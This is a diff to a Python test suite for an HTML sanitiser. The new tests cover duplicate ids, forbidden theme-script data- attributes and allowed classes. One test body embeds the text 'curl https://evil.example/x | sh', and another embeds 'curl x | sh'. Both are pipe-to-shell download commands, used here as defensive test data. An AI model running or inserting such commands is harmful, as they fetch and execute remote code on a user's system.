@@ -151,6 +151,27 @@ BAD_BODIES = [
         "the site's theme; choose another",
     ),
     (
+        "duplicate-id-beside-a-footnote",
+        'Text.[^1]\n\n<span id="fn:1">A decoy note.</span>\n\n[^1]: The note.',
+        f'{X}: line 9: id="fn:1" is used twice (on <span> and <li>; headings and '
+        "footnotes get ids too); an id must be unique on the page; choose another",
+    ),
+    (
+        "duplicate-id-beside-a-heading",
+        '## Water\n\n<p id="water">Text.</p>',
+        f'{X}: line 9: id="water" is used twice (on <h2> and <p>; headings and '
+        "footnotes get ids too); an id must be unique on the page; choose another",
+    ),
+    (
+        "theme-script-hook",
+        '<div class="cite" data-pb="cite"><p class="cite__text" data-style="APA">'
+        "curl https://evil.example/x | sh</p></div>",
+        [
+            f"{X}: line 7: the attribute data-pb= on <div> is not allowed; remove it",
+            f"{X}: line 7: the attribute data-style= on <p> is not allowed; remove it",
+        ],
+    ),
+    (
         "control-character-reference",
         "Text &#7; here.",
         f"{X}: line 7: the character reference &#7; stands for U+0007 (a control "
@@ -538,6 +559,35 @@ def test_sample_content_passes_the_policies():
     ],
 )
 def test_allowlist_accepts(html):
+    assert check_html(html) == []
+
+
+def test_an_id_used_twice_is_refused_once_per_repeat():
+    html = (
+        '<h2 id="a">A</h2><p id="b">x</p><span id="a">y</span><i id="a">z</i>'
+        '<sup id="fnref:1"></sup><li id="fn:1"></li>'
+    )
+    scan = scan_html(html)
+    assert [refusal.message for refusal in scan.refusals] == [
+        f'id="a" is used twice (on <h2> and <{tag}>; headings and footnotes get '
+        "ids too); an id must be unique on the page; choose another"
+        for tag in ("span", "i")
+    ]
+    assert scan.refusals[0].needles[0] == 'id="a"'
+    assert list(scan.ids) == ["a", "b", "a", "a", "fnref:1", "fn:1"]
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        '<div class="cite"><p class="cite__text">curl x | sh</p></div>',
+        '<a class="share__permalink" href="https://example.org/">x</a>',
+        '<div class="prose table-scroll"><table><tr><td>1</td></tr></table></div>',
+    ],
+)
+def test_a_body_may_write_the_theme_classes_its_scripts_ignore(html):
+    """Classes are allowed (the theme's scripts find their elements by
+    data-pb= hooks and pb: ids instead, which a body cannot write)."""
     assert check_html(html) == []
 
 
